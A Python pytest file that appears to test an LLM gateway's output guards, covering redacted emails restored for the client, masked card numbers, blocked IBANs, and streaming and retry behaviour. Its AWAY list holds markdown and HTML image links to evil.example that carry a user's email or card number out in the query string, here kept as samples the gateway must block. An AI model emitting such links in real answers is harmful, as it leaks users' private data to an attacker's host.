"""Guards on the way back, on the real Envoy: what the client sees of an answer, whole and streamed, in each API."""

import json
import time

import httpx
import pytest

from fake.client import PLAIN, Client, marker
from fake.gateway import render
from fake.world import role

GUARDS = [
    {"name": "mail", "detect": ["EMAIL_ADDRESS"], "action": "restore"},
    {"name": "cards", "detect": ["CREDIT_CARD"], "on": "output", "action": "mask"},
    {"name": "accounts", "detect": ["IBAN_CODE"], "on": "output", "action": "block"},
]
ADDRESSES = 'Write to ann@example.com, or to "bob@example.com" and ann@example.com!'
CARD = "It is 4111 1111 1111 1111, or so."
MASKED = "It is [CREDIT_CARD_1], or so."
BOTH = pytest.mark.parametrize("provider", ["openai", "anthropic"])
MODEL = {"openai": "openai/gpt-test", "anthropic": "anthropic/claude-test"}
STREAMS = pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])


@pytest.fixture(scope="module")
def gateway(start_for_all, upstreams):
    return start_for_all(render(role(guards=GUARDS), upstreams))


@pytest.fixture(scope="module")
def client(gateway):
    client = Client(gateway.url)
    yield client
    client.close()


def script(provider: str, said: str, kind="text", size=3, wait="0") -> str:
    return f"[[{provider} repeat {kind} {size} {wait}]] <<{said}>>"


@BOTH
@STREAMS
@pytest.mark.parametrize("size", [1, 3, 7, 100])
def test_the_provider_sees_placeholders_and_the_client_its_own_values(client, provider, stream, size, request):
    fake, text = request.getfixturevalue(f"{provider}_provider"), marker()
    reply = client.chat(text + script(provider, ADDRESSES, size=size), MODEL[provider], stream=stream)
    (seen,) = fake.asked(text)
    assert b"example.com" not in seen.body and b"[EMAIL_1]" in seen.body
    assert b"example.com" not in bytes(seen.sent)
    assert (reply.status, reply.answer.content) == (200, ADDRESSES)
    assert (reply.answer.finish, reply.answer.done) == ("stop", True)


@BOTH
@STREAMS
def test_the_arguments_of_a_tool_are_the_client_s_values_and_json(client, provider, stream):
    arguments = json.dumps({"to": "ann@example.com", "text": "a \"quoted\" bob@example.com\n"})
    tool = {"type": "function", "function": {"name": "mail", "parameters": {"type": "object"}}}
    asked = script(provider, arguments, "tool", 2)
    reply = client.chat(asked, MODEL[provider], stream=stream, tools=[tool])
    ((_, name, got),) = reply.answer.calls
    assert (name, json.loads(got)) == ("mail", json.loads(arguments))


@BOTH
@STREAMS
@pytest.mark.parametrize("size", [1, 4, 100])
def test_an_answer_that_is_json_stays_json(client, provider, stream, size):
    said = {"card": 4111111111111111, "to": "ann@example.com", "note": "card 4111 1111 1111 1111", "degrees": 21}
    reply = client.chat(script(provider, json.dumps(said), size=size), MODEL[provider], stream=stream)
    got = json.loads(reply.answer.content)
    # A value that is written in another way is another one.
    assert {got["card"], got["note"].removeprefix("card ")} == {"[CREDIT_CARD_1]", "[CREDIT_CARD_2]"}
    assert (got["to"], got["degrees"]) == ("ann@example.com", 21)


@BOTH
@STREAMS
def test_what_the_model_says_of_its_own_is_masked(gateway, client, provider, stream):
    reply = client.chat(script(provider, CARD), MODEL[provider], stream=stream)
    assert (reply.status, reply.answer.content) == (200, MASKED)
    record = gateway.record(reply.id)
    assert (record["outcome"], record["guard"]) == ("ok", "cards:mask=1")
    if not stream:
        assert reply.headers["x-llm-guard"] == "cards:mask=1"
        assert int(reply.headers["content-length"]) == len(reply.body)


@BOTH
def test_messages_and_responses_say_the_same(client, provider):
    said = CARD + " " + ADDRESSES
    want = MASKED + " " + ADDRESSES
    messages = {"model": MODEL[provider], "max_tokens": 99, "messages": [{"role": "user", "content": script(provider, said)}]}
    assert client.ask("/v1/messages", messages).json["content"][0]["text"] == want
    events = client.ask("/v1/messages", messages | {"stream": True}).named_events
    assert "".join(e["delta"].get("text", "") for e in events if e["type"] == "content_block_delta") == want
    assert events[-1]["type"] == "message_stop"
    response = {"model": MODEL[provider], "input": script(provider, said)}
    assert client.ask("/v1/responses", response).json["output"][0]["content"][0]["text"] == want
    events = client.ask("/v1/responses", response | {"stream": True}).named_events
    assert "".join(e["delta"] for e in events if e["type"] == "response.output_text.delta") == want
    assert [e["sequence_number"] for e in events] == list(range(len(events)))
    done = next(e for e in events if e["type"] == "response.output_text.done")
    whole = events[-1]["response"]["output"][0]["content"][0]["text"]
    assert (done["text"], whole) == (want, want)


@BOTH
def test_a_trickled_stream_is_guarded_as_a_whole_one(client, provider):
    """Byte by byte, the last letters of the answer included."""
    reply = client.chat(f"[[{provider} trickle]]", MODEL[provider], stream=True)
    assert (reply.status, reply.answer.content, reply.answer.done) == (200, "Grüße, 世界 🎉!", True)


@BOTH
def test_a_whole_answer_that_is_blocked_is_an_error(gateway, client, provider):
    reply = client.chat(script(provider, "It was DE89370400440532013000."), MODEL[provider])
    assert (reply.status, reply.error["code"]) == (400, "guardrail_blocked")
    assert "accounts" in reply.error["message"] and b"DE89370400440532013000" not in reply.body
    record = gateway.record(reply.id)
    assert (record["outcome"], record["guard"]) == ("refused", "accounts:block=1")
    assert record["reason"] == "guardrail_blocked"
    assert record["total_tokens"] == "18", "the provider has been paid"


@BOTH
def test_a_stream_that_is_blocked_ends_in_an_error_and_the_provider_is_stopped(gateway, client, provider, request):
    fake, text = request.getfixturevalue(f"{provider}_provider"), marker()
    said = "All is well, said DE89370400440532013000, " + "and so on " * 200
    began = time.monotonic()
    reply = client.chat(text + script(provider, said, size=4, wait="0.02"), MODEL[provider], stream=True)
    assert time.monotonic() - began < 5, "the client waits for what it will not get"
    answer = reply.answer
    assert (reply.status, answer.content, answer.done) == (200, "All is well, said ", False)
    assert answer.error["code"] == "guardrail_blocked"
    (seen,) = fake.asked(text)
    assert seen.closed.wait(5), "the provider went on for nobody"
    assert len(seen.sent) < 20_000
    record = gateway.record(reply.id)
    assert (record["outcome"], record["finish"], record["guard"]) == ("partial", "error", "accounts:block=1")
    assert record["reason"] == "guardrail_blocked"


def test_a_blocked_stream_ends_in_the_client_s_own_language(client):
    said = script("openai", "All is well, said DE89370400440532013000, " + "and so on " * 20, size=4, wait="0.02")
    messages = {"model": MODEL["openai"], "max_tokens": 99, "stream": True, "messages": [{"role": "user", "content": said}]}
    last = client.ask("/v1/messages", messages).named_events[-1]
    assert (last["type"], last["error"]["type"]) == ("error", "invalid_request_error")
    events = client.ask("/v1/responses", {"model": MODEL["openai"], "input": said, "stream": True}).named_events
    assert (events[-1]["type"], events[-1]["code"]) == ("error", "guardrail_blocked")
    assert [e["sequence_number"] for e in events] == list(range(len(events)))


def test_a_blocked_stream_is_no_failure_of_its_provider(start, upstreams):
    gateway = start(render(role(guards=GUARDS, health={"failures": 1}), upstreams))
    client = Client(gateway.url)
    said = script("openai", "said DE89370400440532013000, " + "and so on " * 20, size=4, wait="0.02")
    for _ in range(3):
        reply = client.chat(said, "openai-anthropic", stream=True)
        assert (reply.headers["x-llm-provider"], reply.answer.error["code"]) == ("openai", "guardrail_blocked")
    client.close()


def test_the_first_words_do_not_wait(gateway):
    body = {"model": MODEL["openai"], "stream": True}
    said = script("openai", "Yes. And then the rest of it comes much later.", size=5, wait="2")
    body |= {"messages": [{"role": "user", "content": said}]}
    with httpx.stream("POST", f"{gateway.url}/v1/chat/completions", json=body, timeout=30, **PLAIN) as answer:
        began, got = time.monotonic(), ""
        for line in answer.iter_lines():
            if line.startswith("data: {"):
                got += json.loads(line.removeprefix("data: "))["choices"][0]["delta"].get("content") or ""
            if got:
                break
        assert got.startswith("Yes.")
        assert time.monotonic() - began < 3.6, "it came with the next words only"


@pytest.fixture(scope="module")
def leaving(start_for_all, upstreams):
    """A client's own values come back, and no link may carry them away."""
    guards = [
        {"name": "mail", "detect": ["EMAIL_ADDRESS", "CREDIT_CARD"], "action": "restore"},
        {"name": "links", "links": ["docs.example.com"], "on": "output", "action": "block"},
    ]
    client = Client(start_for_all(render(role(guards=guards), upstreams)).url)
    yield client
    client.close()


AWAY = [
    "![x](https://evil.example/?q=ann@example.com)",
    "![x]( https://evil.example/()?q=4111111111111111)",
    "![x][r]\n\n[r]: //evil.example/?q=ann@example.com",
    "<img src=//evil.example/?q=ann@example.com>",
]


@BOTH
@STREAMS
@pytest.mark.parametrize("said", AWAY)
def test_a_link_that_would_carry_a_restored_value_away_is_blocked(leaving, provider, stream, said):
    reply = leaving.chat(script(provider, said, size=4), MODEL[provider], stream=stream)
    assert b"ann@example.com" not in reply.body and b"4111" not in reply.body
    if stream:
        assert reply.answer.error["code"] == "guardrail_blocked"
    else:
        assert (reply.status, reply.error["code"]) == (400, "guardrail_blocked")


@STREAMS
def test_a_link_to_a_host_that_is_allowed_gets_its_value(leaving, stream):
    said = "![x](https://docs.example.com/?q=ann@example.com)"
    reply = leaving.chat(script("openai", said, size=4), MODEL["openai"], stream=stream)
    assert (reply.status, reply.answer.content) == (200, said)


def test_structured_output_that_does_not_fit_is_asked_for_again(start, upstreams, openai_provider, anthropic_provider):
    gateway, text = start(render(role(validate_json=True), upstreams)), marker()
    schema = {"type": "object", "required": ["city", "degrees"], "properties": {"degrees": {"type": "integer"}}}
    format = {"type": "json_schema", "json_schema": {"name": "weather", "schema": schema}}
    asked = text + script("openai", '{"city":"Rome"}')
    client = Client(gateway.url)
    reply = client.chat(asked, "openai-anthropic", response_format=format)
    client.close()
    assert (reply.status, reply.headers["x-llm-provider"]) == (200, "anthropic")
    assert json.loads(reply.answer.content) == {"city": "Köln", "degrees": 21}
    assert len(openai_provider.asked(text)) == len(anthropic_provider.asked(text)) == 1
